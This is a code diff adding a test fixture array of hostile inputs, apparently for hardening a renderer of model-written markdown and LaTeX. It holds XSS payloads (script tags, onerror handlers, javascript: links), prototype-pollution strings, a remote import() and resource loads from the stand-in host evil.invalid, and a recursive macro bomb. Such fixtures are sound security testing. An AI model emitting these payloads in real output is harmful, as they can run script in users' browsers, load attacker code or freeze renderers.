@@ -70,3 +70,20 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '?lit$123456789$ <!--?lit$123456789$-->',
   '__proto__ [constructor][__proto__]\n\n[__proto__]: javascript:alert(1)',
 ];
+
+/** What code and formulas are made of when a model is made to write them. */
+export const HOSTILE_INSIDE: readonly string[] = [
+  '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
+  '```js\n</code></pre><img src=x onerror=alert(1)>\n`${alert(1)}`\n```',
+  '```__proto__\nalert(1)\n```',
+  '```constructor\nalert(1)\n```',
+  '```../../evil\nimport("https://evil.invalid")\n```',
+  '```https://evil.invalid/x.js\nx\n```',
+  '$$\\href{javascript:alert(1)}{x}$$',
+  '$\\class{x" onmouseover="alert(1)}{y}$ $\\url{javascript:alert(1)}$',
+  '$$\\includegraphics{https://evil.invalid/x.png}$$',
+  '\\[\\text{<img src=x onerror=alert(1)>}\\]',
+  '\\(\\def\\a{\\a\\a}\\a\\) $\\unicode{x3c}$ $x \\color{url(https://evil.invalid)}{y}$',
+  '$$\n\\style{background:url(https://evil.invalid)}{x} \\tag{<b>}\n$$',
+  '<agent-chat src="https://evil.invalid"></agent-chat>\n\n`<agent-chat>` $\\text{<agent-chat>}$',
+];
